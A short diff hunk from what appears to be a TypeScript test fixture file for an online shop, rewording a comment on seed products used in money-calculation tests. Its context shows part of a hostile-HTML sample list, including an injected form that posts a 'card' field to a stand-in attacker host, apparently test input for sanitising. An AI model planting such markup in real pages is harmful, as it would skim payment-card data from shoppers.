@@ -48,7 +48,7 @@ const HOSTILE_HTML = [
   "<form action='https://evil.example'><input name='card'></form><p>Unclosed <em>tag",
 ].join("\n");
 
-/** Products whose prices and weights make the worked money examples come out to the rupee. */
+/** Products whose prices and weights fit `test/integration/orders/money-examples.test.ts`. */
 export const WORKED_PRODUCTS: ProductSeed[] = [
   {
     id: "prd_cooker",
